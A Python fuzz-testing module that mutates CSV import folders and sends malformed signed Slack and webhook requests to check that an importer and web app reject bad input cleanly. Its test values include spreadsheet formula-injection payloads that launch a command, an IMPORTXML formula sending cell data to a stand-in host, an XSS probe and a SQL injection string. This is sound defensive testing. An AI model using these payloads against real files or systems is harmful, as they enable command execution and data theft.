"""Bad input: fuzzed import folders, fuzzed Slack payloads and fuzzed signal-hook bodies.

Import folders. Hypothesis draws mutations of a small valid folder (tests/fixtures/northwind): a cell replaced by
generated text or by a known-bad value (formula cells such as `=HYPERLINK("http://x","y")`, giant fields, NUL
bytes, control characters, bad dates and numbers), a row dropped, duplicated or made ragged, a header duplicated or
a required column removed, a file truncated mid-line, re-encoded (latin-1, UTF-16), cut, emptied, replaced by
binary garbage or deleted, program.toml and emails.jsonl damaged. Each folder goes through the real in-process
importer (`warmintro.importer.run.import_folder`) on SQLite and on PostgreSQL, into a store that already holds the
fixture; a sample also goes through the real CLI (`python -m warmintro import DIR --json`, a subprocess).

    import_fuzz_cases    folders tried (in-process, every backend)
    import_cli_cases     of which also through the CLI subprocess
    import_rejected      rejected (expected for most)
    import_valid         a mutation that is still a valid folder and imported (fine; counted apart)
    partial_imports      any change to the store after a rejection (must be 0)
    import_tracebacks    an exception other than the importer's own error, a "Traceback" on the CLI's stderr, or
                         a CLI rejection without exit 2 and the JSON error (must be 0)
    import_unlocated     a rejection with no line for a row-level problem (must be 0)

Slack and hooks. Correctly signed but malformed requests (bad JSON, wrong types, huge, unicode garbage, wrong
content types) are sent over HTTP to the real Starlette app (bolt included) served by uvicorn on 127.0.0.1:
`fuzzed_requests`, `server_errors` (a 5xx answer or a dropped connection; must be 0).
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import shutil
import subprocess
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from sqlalchemy import create_engine, select, text

from warmintro.store.db import Store
from warmintro.store.models import Base

ROOT = Path(__file__).resolve().parents[2]
FIXTURE = ROOT / "tests" / "fixtures" / "northwind"
# Totals, split evenly over the databases reached (SQLite, and PostgreSQL when it answers).
CASES = int(os.environ.get("WARMINTRO_FAULTS_IMPORT_CASES", "350"))
CLI_CASES = int(os.environ.get("WARMINTRO_FAULTS_IMPORT_CLI", "12"))
REQUESTS = int(os.environ.get("WARMINTRO_FAULTS_REQUESTS", "320"))


# ---------------------------------------------------------------------------------------------------
# Helpers shared with the recovery and crash parts


def backend(url: str) -> str:
    return "sqlite" if url.startswith("sqlite") else "postgresql"


@contextmanager
def isolated_url(url: str, workdir: Path, name: str) -> Iterator[str]:
    """A URL for an empty store of its own on the backend of `url`: a fresh SQLite file, or a PostgreSQL schema
    of its own (dropped afterwards), so nothing else on that server is touched."""
    if url.startswith("sqlite"):
        yield f"sqlite:///{workdir / f'{name}-{uuid.uuid4().hex[:8]}.sqlite3'}"
        return
    schema = f"f_{name}_{uuid.uuid4().hex[:10]}".lower()
    admin = create_engine(url.replace("postgresql://", "postgresql+psycopg://", 1))
    try:
        with admin.begin() as conn:
            conn.execute(text(f'CREATE SCHEMA "{schema}"'))
        yield f"{url}{'&' if '?' in url else '?'}options=-csearch_path%3D{schema}"
    finally:
        with admin.begin() as conn:
            conn.execute(text(f'DROP SCHEMA IF EXISTS "{schema}" CASCADE'))
        admin.dispose()


def dump(store: Store) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table, sorted (as tests/storeutil.dump)."""
    out: dict[str, list[tuple[Any, ...]]] = {}
    with store.engine.connect() as conn:
        for name, table in sorted(Base.metadata.tables.items()):
            out[name] = sorted((tuple(r) for r in conn.execute(select(table)).all()), key=repr)
    return out


def cli_env(url: str, home: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("WARMINTRO_", "SLACK_", "OPENAI_"))}
    env.update(WARMINTRO_DATABASE_URL=url, WARMINTRO_HOME=str(home), PYTHONPATH=str(ROOT))
    return env


# ---------------------------------------------------------------------------------------------------
# Mutations of a folder


BAD_CELLS = (
    "", " ", '=HYPERLINK("http://x","y")', "=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\x00", "a\x00b",
    "\t\r\n", '"', '""', "'", "x" * 300, "y" * 70_000, "not-an-email", "a@b", "@", "2026-13-45", "2026-02-30",
    "yesterday", "-1", "1e309", "NaN", "inf", "-0", "1.5", "999999999999999999999999", "true", "maybe",
    "\u202e\u0645\u0631\u062d\u0628\u0627", "\U0001f600" * 3, "\ufeff", "\u0000\u0001\u001f",
    "café", "ｆｕｌｌｗｉｄｔｈ", "<!channel>", "<script>alert(1)</script>", "; DROP TABLE accounts; --",
    "a;b;;c", "http://", "xn--", "..", "ACC-1", "C-1", "S-1",
)


@dataclass
class Folder:
    """An import folder held in memory: CSV files as rows, other files as bytes."""

    tables: dict[str, list[list[str]]] = field(default_factory=dict)
    blobs: dict[str, bytes] = field(default_factory=dict)
    deleted: set[str] = field(default_factory=set)
    notes: list[str] = field(default_factory=list)

    @classmethod
    def read(cls, src: Path) -> Folder:
        f = cls()
        for p in sorted(src.rglob("*")):
            if not p.is_file():
                continue
            rel = p.relative_to(src).as_posix()
            if p.suffix == ".csv":
                with p.open(encoding="utf-8", newline="") as fh:
                    f.tables[rel] = [list(r) for r in csv.reader(fh)]
            else:
                f.blobs[rel] = p.read_bytes()
        return f

    def copy(self) -> Folder:
        return Folder({k: [list(r) for r in v] for k, v in self.tables.items()}, dict(self.blobs), set(self.deleted), [])

    def write(self, out: Path) -> None:
        shutil.rmtree(out, ignore_errors=True)
        out.mkdir(parents=True)
        for rel, rows in self.tables.items():
            if rel in self.deleted:
                continue
            buf = io.StringIO()
            csv.writer(buf, lineterminator="\n").writerows(rows)
            data = self.blobs.get("__raw__" + rel)
            (out / rel).write_bytes(data if data is not None else buf.getvalue().encode("utf-8"))
        for rel, data in self.blobs.items():
            if rel.startswith("__raw__") or rel in self.tables or rel in self.deleted:
                continue
            (out / rel).parent.mkdir(parents=True, exist_ok=True)
            (out / rel).write_bytes(data)

    def encoded(self, rel: str) -> bytes:
        raw = self.blobs.get("__raw__" + rel)
        if raw is not None:
            return raw
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\n").writerows(self.tables[rel])
        return buf.getvalue().encode("utf-8")


def _pick(rnd: random.Random, seq: Any) -> Any:
    seq = list(seq)
    return seq[rnd.randrange(len(seq))]


def mutate(folder: Folder, rnd: random.Random, text_value: str) -> None:
    """Apply one random mutation to `folder` (rnd and text_value come from hypothesis)."""
    csvs = sorted(folder.tables)
    rel = _pick(rnd, csvs)
    rows = folder.tables[rel]
    kind = _pick(rnd, (
        "cell_text", "cell_bad", "cell_bad", "cell_bad", "formula", "drop_row", "dup_row", "ragged", "ragged",
        "dup_header", "drop_required", "rename_header", "truncate", "latin1", "utf16", "nul", "giant",
        "delete_file", "empty_file", "garbage", "program", "emails", "blank_line", "quote",
    ))
    folder.notes.append(f"{kind}:{'program.toml' if kind == 'program' else 'emails.jsonl' if kind == 'emails' else rel}")
    if kind in ("cell_text", "cell_bad", "formula", "giant") and len(rows) > 1:
        r = rnd.randrange(1, len(rows))
        c = rnd.randrange(len(rows[r])) if rows[r] else 0
        value = {"cell_text": text_value, "cell_bad": _pick(rnd, BAD_CELLS),
                 "formula": _pick(rnd, ('=HYPERLINK("http://x","y")', "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                                         "+1+1", '=IMPORTXML(CONCAT("http://x/?", A1), "//a")')),
                 "giant": "g" * _pick(rnd, (257, 321, 4096, 100_000, 1_500_000))}[kind]
        if rows[r]:
            rows[r][c] = value
        else:
            rows[r] = [value]
    elif kind == "drop_row" and len(rows) > 1:
        del rows[rnd.randrange(1, len(rows))]
    elif kind == "dup_row" and len(rows) > 1:
        r = rnd.randrange(1, len(rows))
        rows.insert(r, list(rows[r]))
    elif kind == "ragged" and len(rows) > 1:
        r = rnd.randrange(1, len(rows))
        if rnd.random() < 0.5 and rows[r]:
            rows[r].pop()
        else:
            rows[r].append(text_value)
    elif kind == "dup_header" and rows:
        c = rnd.randrange(len(rows[0]))
        rows[0].insert(rnd.randrange(len(rows[0]) + 1), rows[0][c])
        for row in rows[1:]:
            row.insert(min(c, len(row)), row[c] if c < len(row) else "")
    elif kind == "drop_required" and rows:
        c = rnd.randrange(len(rows[0]))
        for row in rows:
            if c < len(row):
                del row[c]
    elif kind == "rename_header" and rows:
        c = rnd.randrange(len(rows[0]))
        rows[0][c] = _pick(rnd, ("", text_value, rows[0][c].upper() + " ", rows[0][c] + "_x"))
    elif kind == "truncate":
        data = folder.encoded(rel)
        folder.blobs["__raw__" + rel] = data[: rnd.randrange(max(1, len(data)))]
    elif kind in ("latin1", "utf16"):
        if len(rows) > 1 and rows[1]:
            rows[1][min(len(rows[1]) - 1, 1)] += " Müller-Ståhl café"
        content = folder.encoded(rel).decode("utf-8", "replace")
        folder.blobs["__raw__" + rel] = content.encode("latin-1", "replace") if kind == "latin1" else content.encode("utf-16")
    elif kind == "nul":
        data = folder.encoded(rel)
        at = rnd.randrange(len(data) + 1)
        folder.blobs["__raw__" + rel] = data[:at] + b"\x00" + data[at:]
    elif kind == "delete_file":
        folder.deleted.add(rel)
    elif kind == "empty_file":
        folder.blobs["__raw__" + rel] = _pick(rnd, (b"", b"\n", b"\xef\xbb\xbf", b",,,\n"))
    elif kind == "garbage":
        folder.blobs["__raw__" + rel] = bytes(rnd.randrange(256) for _ in range(rnd.randrange(1, 400)))
    elif kind == "blank_line":
        data = folder.encoded(rel)
        lines = data.split(b"\n")
        lines.insert(rnd.randrange(len(lines) + 1), _pick(rnd, (b"", b" ", b"\r", b",")))
        folder.blobs["__raw__" + rel] = b"\n".join(lines)
    elif kind == "quote":
        data = folder.encoded(rel)
        at = rnd.randrange(len(data) + 1)
        folder.blobs["__raw__" + rel] = data[:at] + b'"' + data[at:]
    elif kind == "program":
        toml = folder.blobs.get("program.toml", b"").decode("utf-8")
        choice = rnd.randrange(6)
        if choice == 0:
            folder.blobs["program.toml"] = toml[: rnd.randrange(len(toml) + 1)].encode()
        elif choice == 1:
            folder.blobs["program.toml"] = toml.replace('name = "Relaydesk"', "name = 12").encode()
        elif choice == 2:
            folder.blobs["program.toml"] = (toml + f"\n[rules]\nmax_asks_per_year = {json.dumps(text_value)}\n").encode()
        elif choice == 3:
            folder.blobs["program.toml"] = toml.encode("utf-16")
        elif choice == 4:
            folder.blobs["program.toml"] = (toml + "\n[icp]\nemployees_min = -5\n").encode()
        else:
            folder.deleted.add("program.toml")
    elif kind == "emails":
        key = "emails/emails.jsonl"
        lines = folder.blobs.get(key, b"").split(b"\n")
        i = rnd.randrange(len(lines))
        lines[i] = _pick(rnd, (lines[i][: len(lines[i]) // 2], b"{not json", b"[]", b'{"message_id": 5}',
                              b"\x00\x01", json.dumps({"message_id": text_value, "from": text_value}).encode(),
                              lines[i].replace(b'"body"', b'"bodyx"')))
        folder.blobs[key] = b"\n".join(lines)


# ---------------------------------------------------------------------------------------------------
# Import trials


@dataclass
class Counts:
    cases: int = 0
    cli: int = 0
    rejected: int = 0
    valid: int = 0
    partial: int = 0
    tracebacks: int = 0
    unlocated: int = 0
    other_errors: int = 0
    seconds: float = 0.0
    examples: list[str] = field(default_factory=list)

    def note(self, log: Callable[[str], None], what: str) -> None:
        if len(self.examples) < 12:
            self.examples.append(what)
            log(f"import_fuzz: {what}")


FILE_LEVEL = ("required file is missing", "not UTF-8", "not valid TOML", "malformed CSV", "cannot read")


def _located(issues: list[Any]) -> bool:
    """Every issue names its file; a row-level problem also names its line (file-level ones need not)."""
    for i in issues:
        if not i.file:
            return False
        if i.line is None and i.column is None and not any(s in i.reason for s in FILE_LEVEL) \
                and i.file != "program.toml" and not i.file.startswith("emails/"):
            return False
    return True


def _run_cli(folder: Path, url: str, home: Path) -> tuple[int, str, str]:
    proc = subprocess.run([sys.executable, "-m", "warmintro", "import", str(folder), "--json"], cwd=str(ROOT),
                          env=cli_env(url, home), capture_output=True, text=True, timeout=120)
    return proc.returncode, proc.stdout, proc.stderr


def fuzz_imports(url: str, workdir: Path, log: Callable[[str], None], seed: int, cases: int, cli_cases: int,
                 counts: Counts) -> None:
    from hypothesis import HealthCheck, Phase, given, settings
    from hypothesis import seed as hyp_seed
    from hypothesis import strategies as st

    from warmintro.errors import WarmintroError
    from warmintro.importer.run import ImportRejected, import_folder

    base = Folder.read(FIXTURE)
    store = Store.open(url)
    try:
        import_folder(store, FIXTURE)
        state: dict[str, Any] = {"before": dump(store), "i": 0, "cli": 0}
        cli_every = max(1, cases // max(1, cli_cases)) if cli_cases else 0
        target = workdir / f"fuzz-{backend(url)}"
        home = workdir / "home"

        @settings(max_examples=cases, database=None, deadline=None, phases=[Phase.generate],
                  suppress_health_check=list(HealthCheck))
        @given(st.randoms(use_true_random=False), st.integers(1, 3), st.text(max_size=40))
        @hyp_seed(seed)
        def one(rnd: random.Random, n: int, text_value: str) -> None:
            state["i"] += 1
            folder = base.copy()
            for _ in range(n):
                mutate(folder, rnd, text_value)
            folder.write(target)
            what = f"{backend(url)} case {state['i']} [{', '.join(folder.notes)}]"
            counts.cases += 1
            before = state["before"]
            use_cli = bool(cli_every) and state["i"] % cli_every == 0 and state["cli"] < cli_cases
            rejected = False
            if use_cli:
                counts.cli += 1
                state["cli"] += 1
                code, stdout, stderr = _run_cli(target, url, home)
                if "Traceback" in stderr:
                    counts.tracebacks += 1
                    counts.note(log, f"{what}: CLI traceback: {stderr[-400:]}")
                if code == 0:
                    counts.valid += 1
                else:
                    rejected = True
                    try:
                        payload = json.loads(stdout) if stdout.strip() else {}
                    except ValueError:
                        payload = {}
                    if code != 2 or payload.get("error") != "import_rejected":
                        if code == 2 and not payload:  # a folder-level error (not a folder, ...): message on stderr
                            counts.other_errors += 1
                        else:
                            counts.tracebacks += 1
                            counts.note(log, f"{what}: CLI exit {code}: {stderr.strip()[-300:]}")
                    else:
                        counts.rejected += 1
                        if not all(e.get("file") for e in payload.get("errors", [])):
                            counts.unlocated += 1
                            counts.note(log, f"{what}: CLI rejection without a file: {payload}")
            else:
                try:
                    import_folder(store, target)
                    counts.valid += 1
                except ImportRejected as exc:
                    rejected = True
                    counts.rejected += 1
                    if not _located(exc.issues):
                        counts.unlocated += 1
                        counts.note(log, f"{what}: unlocated {[str(i) for i in exc.issues[:3]]}")
                except WarmintroError as exc:
                    rejected = True
                    counts.other_errors += 1
                    counts.note(log, f"{what}: WarmintroError {exc}")
                except Exception as exc:  # the bug this part looks for
                    rejected = True
                    counts.tracebacks += 1
                    counts.note(log, f"{what}: {type(exc).__name__}: {str(exc)[:300]}")
            after = dump(store)
            if rejected and after != before:
                counts.partial += 1
                changed = [k for k in after if after[k] != before.get(k)]
                counts.note(log, f"{what}: store changed after a rejection: {changed}")
            state["before"] = after

        one()
    finally:
        store.close()


# ---------------------------------------------------------------------------------------------------
# Slack payloads and hook bodies over HTTP


def slack_conftest() -> Any:
    """The Slack app harness the tests use (signing, the small workspace, the fake agent, serve()):
    warmintro.testing.slack_harness."""
    from warmintro.testing import slack_harness

    return slack_harness


def _garbage(rnd: random.Random) -> Any:
    """A JSON value of a random type, sometimes deep, long or full of unusual characters."""
    choice = rnd.randrange(10)
    if choice == 0:
        return None
    if choice == 1:
        return rnd.choice((True, False, 0, -1, 2**70, 1e308, -0.0))
    if choice == 2:
        return "".join(chr(rnd.choice((0, 0x1F, 0x202E, 0xFEFF, 0xFFFF, 0x1F600, 0x10FFFF, rnd.randrange(0x20, 0x3000))))
                       for _ in range(rnd.randrange(1, 30)))
    if choice == 3:
        return "x" * rnd.choice((300, 5000, 200_000))
    if choice == 4:
        return [_garbage(rnd) for _ in range(rnd.randrange(4))]
    if choice == 5:
        return {str(_garbage(rnd))[:20]: _garbage(rnd) for _ in range(rnd.randrange(4))}
    if choice == 6:
        deep: Any = 1
        for _ in range(rnd.choice((10, 200, 900))):
            deep = [deep]
        return deep
    if choice == 7:
        return rnd.choice(("", "2026-13-45", "nps", "=HYPERLINK(\"http://x\",\"y\")", "<!channel>", "U0DANA"))
    if choice == 8:
        return {"type": rnd.choice(("block_actions", "view_submission", "shortcut", "event_callback", "x")),
                "user": _garbage(rnd), "actions": _garbage(rnd), "view": _garbage(rnd), "event": _garbage(rnd)}
    return rnd.random()


def _mutate_json(obj: Any, rnd: random.Random) -> Any:
    """Replace one random node of a JSON document with garbage (or drop it)."""
    if isinstance(obj, dict) and obj and rnd.random() < 0.8:
        key = rnd.choice(list(obj))
        out = dict(obj)
        if rnd.random() < 0.2:
            del out[key]
        else:
            out[key] = _mutate_json(obj[key], rnd)
        return out
    if isinstance(obj, list) and obj and rnd.random() < 0.8:
        out_list = list(obj)
        i = rnd.randrange(len(out_list))
        out_list[i] = _mutate_json(out_list[i], rnd)
        return out_list
    return _garbage(rnd)


def _slack_bodies(rnd: random.Random, conftest: Any) -> tuple[str, str]:
    """(body, content type): a plausible Slack request with one part broken."""
    from urllib.parse import urlencode

    good_action = conftest.click("U0DANA", {"action_id": rnd.choice(("approve", "decline", "queue_open", "x")),
                                           "block_id": "b", "type": "button", "value": "1"})
    good_event = json.loads(conftest.event_body(conftest.mention("U0DANA")))
    kind = rnd.randrange(9)
    if kind == 0:
        return urlencode({"payload": json.dumps(_mutate_json(good_action, rnd))}), "application/x-www-form-urlencoded"
    if kind == 1:
        return json.dumps(_mutate_json(good_event, rnd)), "application/json"
    if kind == 2:
        return urlencode({"payload": json.dumps(good_action)[: rnd.randrange(1, 200)]}), "application/x-www-form-urlencoded"
    if kind == 3:
        return json.dumps(good_event)[: rnd.randrange(1, 300)], "application/json"
    if kind == 4:
        fields = {"command": "/referrals", "text": str(_garbage(rnd))[:3000], "user_id": str(_garbage(rnd))[:50],
                  "team_id": "T0VENDOR", "channel_id": "C0SALES", "trigger_id": "1.2.3"}
        return urlencode(fields), "application/x-www-form-urlencoded"
    if kind == 5:
        return json.dumps(_garbage(rnd)), rnd.choice(("application/json", "application/x-www-form-urlencoded", "text/plain"))
    if kind == 6:
        return "payload=" + "%" * rnd.randrange(1, 5) + "zz", "application/x-www-form-urlencoded"
    if kind == 7:
        return json.dumps(good_event), rnd.choice(("text/plain", "application/x-www-form-urlencoded", "", "multipart/form-data"))
    return "\ufeff" + json.dumps(_mutate_json(good_event, rnd)), "application/json"


def _hook_body(rnd: random.Random) -> bytes:
    row = {"signal_id": f"FZ-{rnd.randrange(10**9)}", "account_id": "A", "contact_email": "priya@northwind.example",
           "type": "nps", "occurred_at": "2026-11-25T08:00:00Z", "score": 10}
    usage = {"account_id": "A", "contact_email": "priya@northwind.example", "event": "login",
             "occurred_at": "2026-11-25T08:00:00Z", "count": 1}
    base: Any = rnd.choice((row, usage, [row, usage], [row] * 3))
    kind = rnd.randrange(6)
    if kind == 0:
        return json.dumps(_mutate_json(base, rnd)).encode()
    if kind == 1:
        return json.dumps(base).encode()[: rnd.randrange(1, 120)]
    if kind == 2:
        return bytes(rnd.randrange(256) for _ in range(rnd.randrange(1, 300)))
    if kind == 3:
        return json.dumps(_garbage(rnd)).encode()
    if kind == 4:
        return json.dumps([dict(row, signal_id=f"FZ-{i}-{rnd.randrange(10**9)}") for i in range(rnd.choice((10, 6000)))]).encode()
    return json.dumps(base).encode("utf-16")


def fuzz_requests(url: str, workdir: Path, log: Callable[[str], None], seed: int, n: int,
                  only: str | None = None) -> tuple[int, int, list[str]]:
    """(requests sent, 5xx or dropped, examples) against the real app served over HTTP: one in three to the
    signal hooks (when mounted), the rest to /slack/events; `only` = "slack" or "hooks" sends just those."""
    import httpx

    conftest = slack_conftest()
    from slackapp.app import build_bolt_app
    from slackapp.deps import Deps
    from warmintro.settings import Settings
    from web.server import ROUTE_MODULES, create_web_app

    hooks = None
    if "web.hooks" in ROUTE_MODULES:
        hooks = importlib_or_none("web.hooks")
    rnd = random.Random(seed)
    mock = conftest.MockSlackAPI().start()
    for uid, email in ((conftest.DANA, "dana@vendor.example"), (conftest.PRIYA, "priya@northwind.example")):
        mock.add_user(uid, email)
    sent = bad = 0
    examples: list[str] = []
    store = Store.open(url)
    try:
        conftest.small_workspace().load(store, workdir / f"ws-{backend(url)}")
        settings = Settings(WARMINTRO_HOME=workdir / "slack-home", SLACK_BOT_TOKEN=conftest.TOKEN,
                            SLACK_SIGNING_SECRET=conftest.SECRET, SLACK_API_URL=mock.api_url,
                            WARMINTRO_HOOK_SECRET="hook-secret")
        deps = Deps(settings=settings, store=store, agent=conftest.FakeAgent(), clock=lambda: conftest.NOW)
        bolt_app = build_bolt_app(deps)
        server, thread, port = conftest.serve(create_web_app(bolt_app, deps))
        base = f"http://127.0.0.1:{port}"
        try:
            with httpx.Client(timeout=30) as http:
                for i in range(n):
                    to_hooks = only == "hooks" or (only is None and i % 3 == 2)
                    if hooks is not None and to_hooks:
                        body = _hook_body(rnd)
                        ts = int(time.time())
                        path = rnd.choice(("/hooks/signals", "/hooks/usage", "/hooks/signals/delighted",
                                           "/hooks/signals/typeform", "/hooks/signals?preset=x"))
                        headers = hooks.signed_headers("hook-secret", body, ts)
                        if "typeform" in path:
                            import base64
                            import hashlib
                            import hmac
                            headers["Typeform-Signature"] = "sha256=" + base64.b64encode(
                                hmac.new(b"hook-secret", body, hashlib.sha256).digest()).decode()
                        what = f"hook {path} {body[:80]!r}"
                    else:
                        text_body, ctype = _slack_bodies(rnd, conftest)
                        body = text_body.encode("utf-8", "surrogatepass")
                        headers = conftest.signed_headers(text_body, content_type=ctype) if ctype else \
                            {k: v for k, v in conftest.signed_headers(text_body).items() if k != "Content-Type"}
                        path = "/slack/events"
                        what = f"slack {ctype} {text_body[:80]!r}"
                    sent += 1
                    try:
                        status = http.post(base + path, content=body, headers=headers).status_code
                    except httpx.HTTPError:
                        # uvicorn closes a keep-alive connection after a 500: the next request on it fails
                        # without reaching the app. Send it again on a fresh connection before counting it.
                        try:
                            status = httpx.post(base + path, content=body, headers=headers, timeout=30).status_code
                        except httpx.HTTPError as exc:
                            status = 599
                            what += f" ({type(exc).__name__})"
                    if status >= 500:
                        bad += 1
                        if len(examples) < 10:
                            examples.append(f"{status} {what}")
                            log(f"import_fuzz: server error {status}: {what}")
            bolt_app.listener_runner.listener_executor.shutdown(wait=True)
            service = hooks.service_of(bolt_app) if hooks is not None and hasattr(hooks, "service_of") else None
            if service is not None:
                service.drain()
        finally:
            server.should_exit = True
            thread.join(timeout=10)
    finally:
        store.close()
        mock.stop()
    return sent, bad, examples


def importlib_or_none(name: str) -> Any:
    import importlib

    try:
        return importlib.import_module(name)
    except ImportError:
        return None


# ---------------------------------------------------------------------------------------------------


def run(ctx: Any, *, cases: int | None = None, cli_cases: int | None = None,
        requests: int | None = None) -> dict[str, int | float]:
    n_db = max(1, len(ctx.database_urls))
    per_db = -(-(CASES if cases is None else cases) // n_db)
    cli = -(-(CLI_CASES if cli_cases is None else cli_cases) // n_db)
    n_requests = REQUESTS if requests is None else requests
    counts = Counts()
    started = time.perf_counter()
    for i, url in enumerate(ctx.database_urls):
        with isolated_url(url, ctx.workdir, "fuzz") as own:
            fuzz_imports(own, ctx.workdir, ctx.log, ctx.seed + i, per_db, cli, counts)
    counts.seconds = time.perf_counter() - started
    sent = bad = 0
    for i, url in enumerate(ctx.database_urls):
        with isolated_url(url, ctx.workdir, "http") as own:
            s, b, _ex = fuzz_requests(own, ctx.workdir, ctx.log, ctx.seed + 100 + i, -(-n_requests // n_db))
            sent += s
            bad += b
    ctx.log(f"import_fuzz: {counts.cases} folders ({counts.cli} via the CLI) in {counts.seconds:.0f}s: "
            f"{counts.rejected} rejected, {counts.valid} valid, {counts.partial} partial, {counts.tracebacks} tracebacks; "
            f"{sent} requests, {bad} server errors")
    return {
        "import_fuzz_cases": counts.cases, "import_cli_cases": counts.cli, "import_rejected": counts.rejected,
        "import_valid": counts.valid, "partial_imports": counts.partial, "import_tracebacks": counts.tracebacks,
        "import_unlocated": counts.unlocated, "import_other_errors": counts.other_errors,
        "fuzzed_requests": sent, "server_errors": bad,
    }
